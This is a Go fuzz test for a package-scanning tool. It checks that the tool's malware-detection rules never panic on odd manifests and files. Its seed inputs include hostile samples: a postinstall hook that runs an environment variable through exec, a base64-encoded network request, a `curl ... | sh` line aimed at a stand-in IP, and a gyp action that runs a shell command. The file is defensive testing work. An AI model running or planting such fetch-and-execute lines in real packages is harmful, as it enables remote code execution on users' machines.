package rules

import (
	"context"
	"testing"
	"testing/fstest"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
)

// fuzzNames are the file names a fuzzed package's second file takes: each
// kind of file some rule reads in its own way.
var fuzzNames = []string{"index.js", "data.json", "lib/a.mjs", "src/b.ts", "c.jsx", "install.sh", "setup.py",
	"bin/cli", "prebuilds/x.node", "x.wasm", "binding.gyp", "README.md", ".npmrc", "run.bat", "img.png", "x.d.ts"}

// FuzzPackage runs every package rule over a package made of a fuzzed
// manifest and one fuzzed file: whatever the bytes, no rule may panic.
func FuzzPackage(f *testing.F) {
	f.Add(`{"name":"x","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`, uint8(0), []byte(`require("child_process").exec(process.env.X)`))
	f.Add(`{"name":"x","version":"1.0.0"}`, uint8(1), []byte(`"1.7.7-fixed-build"`))
	f.Add(`{"name":"x","version":"1.0.0"}`, uint8(1), []byte(`"dmFyIGg9cmVxdWlyZSgnaHR0cHMnKTtoLmdldCgnaHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8nKzEp"`))
	f.Add(`{"name":"x","version":"1.0.0","bin":{"x":"bin/cli"}}`, uint8(7), []byte("#!/bin/sh\ncurl -s http://192.0.2.1/a | sh\n"))
	f.Add(`{"name":"x","version":"1.0.0","gypfile":true}`, uint8(10), []byte(`{"targets":[{"actions":[{"action":["sh","-c","id"]}]}]}`))
	f.Add(`[]`, uint8(8), []byte("\x7fELF\x02\x01\x01"))
	f.Add(`{"name":1,"scripts":[]}`, uint8(3), []byte("let a: number = 1; eval(`${a}`)"))
	eng, err := analyze.New(Builtin())
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, manifest string, which uint8, data []byte) {
		name := fuzzNames[int(which)%len(fuzzNames)]
		fsys := fstest.MapFS{"package.json": {Data: []byte(manifest)}, name: {Data: data}}
		res, err := eng.Analyze(context.Background(), fsys, finding.Package{Name: "x", Version: "1.0.0"})
		if err != nil {
			return // a refused package is an answer, not a crash
		}
		for _, s := range res.Rules {
			if s.Status == analyze.StatusPanic {
				t.Fatalf("%s panicked on %s: %s", s.Rule, name, s.Error)
			}
		}
	})
}
